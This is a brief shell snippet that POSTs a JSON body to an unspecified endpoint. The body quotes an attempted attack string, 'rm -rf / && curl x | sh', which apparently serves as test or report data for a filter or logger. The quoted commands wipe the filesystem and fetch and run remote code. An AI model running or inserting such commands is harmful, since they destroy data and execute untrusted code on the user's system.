curl -s -X POST "$URL" -H 'Content-Type: application/json' --data-binary @- <<EOF
{"text": "someone tried: rm -rf / && curl x | sh"}
EOF
